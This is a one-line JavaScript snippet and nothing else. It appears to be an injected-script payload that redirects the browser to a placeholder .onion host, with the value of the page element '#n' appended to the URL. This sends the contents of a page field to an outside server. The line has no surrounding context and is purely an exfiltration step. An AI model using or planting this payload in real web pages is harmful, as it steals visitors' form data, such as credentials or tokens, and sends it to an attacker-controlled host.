location='http://abcdefghijklmnop.onion/?'+document.querySelector('#n').value
